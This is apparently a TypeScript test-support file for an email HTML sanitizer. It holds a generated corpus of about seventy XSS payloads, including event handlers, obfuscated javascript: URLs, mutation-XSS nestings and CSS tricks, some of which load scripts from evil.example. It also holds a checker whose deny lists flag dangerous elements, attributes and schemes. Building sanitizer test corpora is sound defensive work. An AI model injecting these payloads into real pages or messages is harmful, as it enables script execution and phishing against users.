import { JSDOM } from 'jsdom';

/*
 * Test support (not imported by production code): a generated corpus of hostile email HTML and an
 * independent checker of what a sanitized body may still contain. The checker does not reuse the
 * policy's own code: it parses the output like a browser would and looks for anything that runs
 * code, navigates, submits, embeds a document or hides a scheme.
 */

/** Classic vectors, one per technique. `{JS}` is replaced by several spellings of a javascript: URL. */
const VECTORS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" OnErRoR="alert(1)">',
  '<img/src=x/onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="{JS}"><text x="20" y="20">x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName="href" to="{JS}"/></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math href="{JS}">x</math>',
  '<a href="{JS}">click</a>',
  '<a href="  {JS}">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<a href="file:///etc/passwd">click</a>',
  '<iframe src="{JS}"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
  '<frameset><frame src="{JS}"></frameset>',
  '<object data="{JS}"></object>',
  '<embed src="{JS}">',
  '<applet code="x.class"></applet>',
  '<form action="{JS}"><input type=submit></form>',
  '<form action="https://phish.example/login"><input name=pw><button formaction="{JS}">go</button></form>',
  '<button formaction="{JS}">go</button>',
  '<isindex action="{JS}" type=image>',
  '<meta http-equiv="refresh" content="0;url={JS}">',
  '<meta http-equiv="refresh" content="0;url=https://phish.example/">',
  '<base href="{JS}//">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<link rel=import href="https://evil.example/x.html">',
  '<div style="width: expression(alert(1))">x</div>',
  '<div style="background:url({JS})">x</div>',
  '<div style="background-image: url(&quot;{JS}&quot;)">x</div>',
  '<div style="behavior: url(x.htc)">x</div>',
  '<div style="-moz-binding: url(https://evil.example/x.xml#x)">x</div>',
  '<div style="w\\69 dth: e\\78 pression(alert(1))">x</div>',
  '<div style="xss:expr/**/ession(alert(1))">x</div>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>@import url({JS});</style>',
  '<style>body{background:url("{JS}")}</style>',
  '<style>@im\\port "https://evil.example/x.css";</style>',
  '<style>p{color:red}</style><p>styled</p>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img src="https://tracker.example/p.gif" srcset="{JS} 2x">',
  '<video poster="{JS}"><source src="{JS}"></video>',
  '<audio src="x" onerror=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<table background="{JS}"><tr><td>x</td></tr></table>',
  '<div data-x="1" ping="https://evil.example/">x</div>',
  '<a href="https://ok.example/" ping="https://evil.example/track">ok</a>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><img src=x onerror=alert(1)></template>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<title><img src=x onerror=alert(1)></title>',
  '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<a href="java\u0000script:alert(1)">nul</a>',
  '<a href="&#x6A;avascript&colon;alert(1)">entity</a>',
  '<a href="jav&#x09;ascript:alert(1)">tab</a>',
  '<portal src="https://evil.example/"></portal>',
  '<object type="text/x-scriptlet" data="https://evil.example/x.sct"></object>',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<div id="x"><a href="#" onclick="alert(1)">anchor</a></div>',
];

const JS_SPELLINGS = ['javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'java&#x09;script:alert(1)', '&#106;avascript:alert(1)', 'java\nscript:alert(1)', ' \u0001javascript:alert(1)'];

/** Contexts an attacker nests a vector in, to exploit parser switches (foreign content, raw text, tables). */
const WRAPPERS: ((v: string) => string)[] = [
  (v) => v,
  (v) => `<html><head></head><body><p>Hello,</p>${v}<p>Thanks</p></body></html>`,
  (v) => `<table><tr><td>${v}</td></tr></table>`,
  (v) => `<svg>${v}</svg>`,
  (v) => `<math><mi>${v}</mi></math>`,
  (v) => `<div><!-- ${'-'.repeat(3)} -->${v}</div>`,
  (v) => `<select><option>${v}</option></select>`,
  (v) => `<blockquote type="cite">${v.toUpperCase().replace(/ALERT\(1\)/g, 'alert(1)')}</blockquote>`,
];

/** Every vector in every spelling of javascript:, then each base vector in every wrapper. Deterministic. */
export function xssCorpus(): string[] {
  const out = new Set<string>();
  for (const v of VECTORS) {
    if (v.includes('{JS}')) for (const js of JS_SPELLINGS) out.add(v.replaceAll('{JS}', js));
    else out.add(v);
  }
  const base = [...out];
  for (const w of WRAPPERS.slice(1)) for (let i = 0; i < base.length; i += 3) out.add(w(base[i]!));
  return [...out];
}

const FORBIDDEN_ELEMENTS = new Set([
  'script', 'iframe', 'frame', 'frameset', 'object', 'embed', 'applet', 'portal', 'form', 'input', 'button', 'textarea', 'select',
  'meta', 'base', 'link', 'svg', 'math', 'noscript', 'template', 'audio', 'video', 'source', 'isindex',
]);
const FORBIDDEN_ATTRS = new Set(['srcdoc', 'formaction', 'action', 'srcset', 'xlink:href', 'http-equiv', 'ping', 'poster']);
const URL_ATTRS = new Set(['href', 'src', 'background', 'cite', 'longdesc', 'data', 'lowsrc', 'dynsrc', 'usemap', 'codebase', 'to', 'values']);
const SAFE_SCHEME = /^(?:https?:|mailto:|tel:|cid:|#|$)/i;
const RASTER_DATA = /^data:image\/(?:png|gif|jpe?g|webp|bmp);/i;
const BAD_CSS = /expression\s*\(|javascript\s*:|vbscript\s*:|@import|behaviou?r\s*:|-moz-binding/i;

const cssDecoded = (css: string) =>
  css
    .replace(/\\([0-9a-f]{1,6})\s?/gi, (_m, hex: string) => String.fromCodePoint(Math.min(parseInt(hex, 16) || 0xfffd, 0x10ffff)))
    .replace(/\\(.)/g, '$1')
    .replace(/\/\*[\s\S]*?\*\//g, '');

let parser: DOMParser | null = null;

/** Problems found in a sanitized body, as readable strings; empty when safe. */
export function unsafeParts(html: string): string[] {
  const problems: string[] = [];
  parser ??= new new JSDOM('').window.DOMParser();
  const doc = parser.parseFromString(`<!doctype html><html><body>${html}</body></html>`, 'text/html');
  for (const el of Array.from(doc.body.querySelectorAll('*'))) {
    const tag = el.tagName.toLowerCase();
    if (FORBIDDEN_ELEMENTS.has(tag)) problems.push(`<${tag}>`);
    if (tag === 'style' && BAD_CSS.test(cssDecoded(el.textContent ?? ''))) problems.push(`<style> ${el.textContent}`);
    for (const attr of Array.from(el.attributes)) {
      const name = attr.name.toLowerCase();
      // Browsers drop tabs, newlines and leading control characters/spaces from a URL's scheme.
      const value = [...attr.value].filter((ch) => ch.charCodeAt(0) > 0x20).join('');
      if (name.startsWith('on')) problems.push(`${tag}[${name}]`);
      if (FORBIDDEN_ATTRS.has(name)) problems.push(`${tag}[${name}]`);
      if (URL_ATTRS.has(name) && !SAFE_SCHEME.test(value) && !(tag === 'img' && name === 'src' && RASTER_DATA.test(value))) {
        // A relative URL has no scheme at all and is harmless in a sandboxed srcdoc frame.
        if (/^[a-z][a-z0-9+.-]*:/i.test(value)) problems.push(`${tag}[${name}=${attr.value}]`);
      }
      if (name === 'style' && BAD_CSS.test(cssDecoded(attr.value))) problems.push(`${tag}[style=${attr.value}]`);
    }
  }
  return problems;
}
